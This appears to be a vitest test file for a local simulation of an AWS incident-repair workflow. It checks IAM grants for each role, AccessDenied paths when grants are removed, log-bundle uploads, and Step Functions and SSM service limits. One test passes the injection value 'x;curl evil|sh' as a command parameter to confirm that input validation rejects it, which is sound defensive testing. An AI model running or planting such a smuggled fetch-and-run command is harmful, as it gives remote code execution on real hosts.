import { beforeAll, describe, expect, it } from 'vitest';
import { healthyAccount, NODE_ID } from '../../local/account-snapshot.js';
import { TemplateAuthorizer, withoutGrant } from '../../local/iam.js';
import { DOCUMENTS, freshIncidentTable, runWorkflow, warmUpRuntime } from '../../local/local-workflow.js';
import { simulatedPauseNode } from '../../local/node-adapters.js';
import { admitCommand, documentsOf, INVOCATION_OUTPUT_LIMIT, LocalRunCommand } from '../../local/ssm-runtime.js';
import { type ResolvedTemplate, synthesizedTemplate } from '../../local/template.js';
import { incident } from './support.js';

let template: ResolvedTemplate;
beforeAll(async () => {
  template = synthesizedTemplate();
  await warmUpRuntime(template);
});
const run = (o: Partial<Parameters<typeof runWorkflow>[1]> = {}, i = incident()) =>
  runWorkflow(i, { account: healthyAccount(), node: simulatedPauseNode(), template, ...o });
const approved = { modes: { 'sandbox-image': 'approve' as const }, approval: 'approve' as const };

describe('IAM as AWS decides it: every call of a run is authorised against the synthesized template', () => {
  it('an auto repair: every Task and every function call is allowed by a grant in the template', async () => {
    const r = await run();
    expect(r.status, r.failures.join('\n')).toBe('SUCCEEDED');
    expect(r.decisions.filter((d) => !d.allowed)).toEqual([]);
    const did = (role: RegExp, action: string) =>
      r.decisions.some((d) => role.test(d.principal) && d.action === action && d.allowed);
    expect(did(/StateMachineRole/, 'lambda:InvokeFunction')).toBe(true);
    // Only the door sends commands: the state machine itself holds no ssm:SendCommand.
    expect(did(/Door/, 'ssm:SendCommand')).toBe(true);
    expect(r.decisions.some((d) => /StateMachineRole/.test(d.principal) && d.action === 'ssm:SendCommand')).toBe(false);
    expect(did(/StateMachineRole/, 'sns:Publish')).toBe(true);
    expect(did(/StateMachineRole/, 'kms:GenerateDataKey')).toBe(true);
    expect(did(/OpenIncident/, 'dynamodb:PutItem')).toBe(true);
    expect(did(/OpenIncident/, 'ssm:GetParameter')).toBe(true);
    expect(did(/Summarize/, 's3:PutObject')).toBe(true);
    expect(did(/ResolveNode/, 'ec2:DescribeInstances')).toBe(true);
    expect(did(/CheckIam/, 'iam:ListAttachedRolePolicies')).toBe(true);
    expect(r.decisions.length).toBeGreaterThan(50);
  });

  it('an approved repair: the callback resumes the execution with its own grant (finding 2)', async () => {
    const r = await run(approved);
    expect(r.status, r.failures.join('\n')).toBe('SUCCEEDED');
    expect(r.decisions).toContainEqual(
      expect.objectContaining({
        principal: expect.stringMatching(/ApprovalCallb/),
        action: 'states:SendTaskSuccess',
        allowed: true,
      }),
    );
    expect(r.decisions).toContainEqual(
      expect.objectContaining({ principal: 'anonymous', action: 'lambda:InvokeFunctionUrl', allowed: true }),
    );
    // The URL call's second authorisation: InvokeFunction, granted only with lambda:InvokedViaFunctionUrl.
    expect(r.decisions).toContainEqual(
      expect.objectContaining({ principal: 'anonymous', action: 'lambda:InvokeFunction', allowed: true }),
    );
    const callback = String(r.decisions.find((d) => d.action === 'lambda:InvokeFunctionUrl')?.resource);
    const direct = await new TemplateAuthorizer(template).deniedBecause('anonymous', {
      action: 'lambda:InvokeFunction',
      resource: callback,
    });
    expect(direct, 'the approval function must not be invocable but through its URL').toBeDefined();
  });

  it('without the task-response grant the approval fails with AccessDenied and the link is not burnt', async () => {
    const table = await freshIncidentTable(template);
    const r = await run({
      ...approved,
      table,
      template: withoutGrant(template, /ApprovalCallback/, 'states:SendTaskSuccess'),
    });
    // The approver's POST gets a 503 page naming the denial; IAM refused the callback role's call.
    expect(r.failures.join('\n')).toMatch(/^Door: ask: Error: approval callback answered 503/m);
    // (The command-completion function's SendTaskSuccess for the probe's command is its own, and allowed.)
    expect(
      r.decisions
        .filter((d) => d.action === 'states:SendTaskSuccess' && /ApprovalCallb/.test(d.principal))
        .map((d) => [d.principal, d.allowed]),
    ).toEqual([[expect.stringMatching(/:role\/.*ApprovalCallb/), false]]);
    expect(r.commands.map((c) => c.document)).not.toContain(DOCUMENTS.repairPauseImage);
    const approval = (await table.scan()).find((x) => String(x.pk).startsWith('APPROVAL#'));
    expect(approval).toBeDefined();
    expect(approval?.usedAt).toBeUndefined();
  });

  it('without the key grant no notification is delivered: SNS.KMSAccessDeniedException (finding 3)', async () => {
    const table = await freshIncidentTable(template);
    const r = await run({ table, template: withoutGrant(template, /StateMachineRole/, 'kms:GenerateDataKey*') });
    // "Record failure" summarizes the run a second time: the repair still counts once against the hourly cap.
    expect(r.states.filter((s) => s === 'Summarize' || s === 'Record failure')).toEqual([
      'Summarize',
      'Record failure',
    ]);
    const actions = (await table.scan()).filter((x) => x.pk === 'CLUSTER#prod-eu');
    expect(actions).toHaveLength(1);
    expect(r.failures.join('\n')).toMatch(
      /^Notify: SNS\.KMSAccessDeniedException: .* kms:GenerateDataKey on resource: arn:aws:kms:/m,
    );
    expect(r.sns).toEqual([]);
  });

  it('a check whose role lost a grant sees the AccessDenied AWS would send', async () => {
    const r = await run({ template: withoutGrant(template, /CheckIam/, 'iam:ListAttachedRolePolicies') });
    expect(r.decisions).toContainEqual(
      expect.objectContaining({
        principal: expect.stringMatching(/CheckIam/),
        action: 'iam:ListAttachedRolePolicies',
        allowed: false,
      }),
    );
    // The check reports the denial as an error finding: the incident fails closed, it is not lost.
    const findings = (r.output.plan as { findings: { id: string; status: string; summary: string }[] }).findings;
    expect(findings.find((f) => f.id === 'iam.node-role.ecr-read')).toMatchObject({ status: 'error' });
  });
});

describe('the node uploads collect-logs bundles with its own role (finding 10)', () => {
  const pid = () =>
    incident({
      class: 'pid-exhaustion',
      incidentKey: `prod-eu|node:${NODE_ID}|pid-exhaustion`,
      cause: 'the node ran out of PIDs',
    });
  const action = (r: Awaited<ReturnType<typeof run>>) =>
    (r.output.door as { done: { act?: { command?: { status: string } } } } | undefined)?.done.act?.command;

  it('with the node role configured, the bucket policy lets the upload through', async () => {
    const r = await run({ modes: { 'pid-exhaustion': 'auto' } }, pid());
    expect(r.commands.map((c) => c.document)).toContain(DOCUMENTS.collectLogs);
    expect(action(r)?.status).toBe('Success');
  });

  it('without it (every deployment before the fix) the upload is denied and the action fails', async () => {
    const bare = synthesizedTemplate({ clusters: [{ name: 'prod-eu', region: 'eu-west-1' }] });
    const r = await run({ template: bare, modes: { 'pid-exhaustion': 'auto' } }, pid());
    expect(action(r)?.status).toBe('Failed');
    expect(JSON.stringify(r.output)).toContain('An error occurred (AccessDenied) when calling the PutObject operation');
  });
});

describe('service limits the runtime enforces', () => {
  it('an execution name Step Functions refuses never starts', async () => {
    await expect(run({}, incident({ incidentId: 'prod-eu|node:i-0abc|sandbox-image' }))).rejects.toMatchObject({
      name: 'InvalidName',
    });
  });

  it('an execution input over 256 KB never starts', async () => {
    await expect(run({}, incident({ samples: ['x'.repeat(262_144)] }))).rejects.toMatchObject({
      name: 'InvalidExecutionInput',
    });
  });

  it('SendCommand refuses parameters the synthesized document does not declare or whose allowedPattern they miss', () => {
    const docs = documentsOf(template);
    expect(() =>
      admitCommand(docs, DOCUMENTS.repairPauseImage, {
        Image: ['public.ecr.aws/eks-distro/kubernetes/pause:3.9'],
        DryRun: ['false'],
      }),
    ).not.toThrow();
    expect(() => admitCommand(docs, DOCUMENTS.repairPauseImage, { Image: ['x;curl evil|sh'] })).toThrow(
      expect.objectContaining({
        name: 'Ssm.InvalidParametersException',
        message: expect.stringMatching(/allowedPattern/),
      }),
    );
    expect(() => admitCommand(docs, DOCUMENTS.repairPauseImage, { Force: ['true'] })).toThrow(
      expect.objectContaining({
        name: 'Ssm.InvalidParametersException',
        message: expect.stringMatching(/not declared/),
      }),
    );
    expect(() => admitCommand(docs, DOCUMENTS.repairPauseImage, { DryRun: ['true', 'false'] })).toThrow(
      expect.objectContaining({ name: 'Ssm.InvalidParametersException' }),
    );
    expect(() => admitCommand(docs, 'AWS-RunShellScript', {})).toThrow(
      expect.objectContaining({ name: 'Ssm.InvalidDocumentException' }),
    );
  });

  it('GetCommandInvocation returns only the first 24,000 characters of output', async () => {
    const ssm = new LocalRunCommand(documentsOf(template), {
      managed: true,
      run: () => ({ status: 'Success', stdout: 'a'.repeat(30_000) }),
    });
    const sent = await ssm.send({ DocumentName: DOCUMENTS.probeNode, InstanceIds: ['i-0abc'] });
    const out = ssm.get({ CommandId: sent.Command.CommandId, InstanceId: 'i-0abc' });
    expect(out.StandardOutputContent).toHaveLength(INVOCATION_OUTPUT_LIMIT);
  });
});
